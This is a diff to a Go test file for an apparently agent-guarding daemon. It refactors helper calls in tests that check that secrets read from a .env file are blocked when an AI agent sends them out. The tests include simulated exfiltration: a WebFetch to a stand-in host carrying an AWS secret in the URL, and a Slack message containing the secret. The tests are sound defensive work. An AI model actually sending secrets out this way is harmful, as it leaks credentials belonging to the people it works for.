@@ -3,6 +3,7 @@ package daemon
 import (
 	"bytes"
 	"encoding/json"
+	"github.com/flowd-dev/flowd/internal/upstream"
 	"net/http"
 	"net/http/httptest"
 	"testing"
@@ -68,7 +69,7 @@ func TestHookReadThenWebFetchIsDenied(t *testing.T) {
 // is denied on its way out through an MCP tool.
 func TestHookAndShimShareTheSession(t *testing.T) {
 	d := testDaemon(t, nil)
-	fs := newUpstream(1, shimproto.Hello{Name: "filesystem"}, "cc")
+	fs := upstream.NewStream(1, shimproto.Hello{Name: "filesystem"}, "cc")
 	callAndAnswer(d, fs, 1, "read_text_file", `{"path":"/p/.env"}`, envFile)
 	v := postHook(t, d, "cc", "PreToolUse", map[string]any{"tool_name": "WebFetch",
 		"tool_input": map[string]any{"url": "https://x.example/?d=" + awsSecret}})
@@ -78,7 +79,7 @@ func TestHookAndShimShareTheSession(t *testing.T) {
 	postHook(t, d2, "cc", "PostToolUse", map[string]any{"tool_name": "Read",
 		"tool_input":    map[string]any{"file_path": "/p/.env"},
 		"tool_response": map[string]any{"type": "text", "file": map[string]any{"filePath": "/p/.env", "content": envFile}}})
-	slack := newUpstream(2, shimproto.Hello{Name: "slack"}, "cc")
+	slack := upstream.NewStream(2, shimproto.Hello{Name: "slack"}, "cc")
 	text := blockedText(t, callAndAnswer(d2, slack, 1, "post_message", `{"text":"`+awsSecret+`"}`, ""))
 	assert.Contains(t, text, "internal source (Read)")
 }
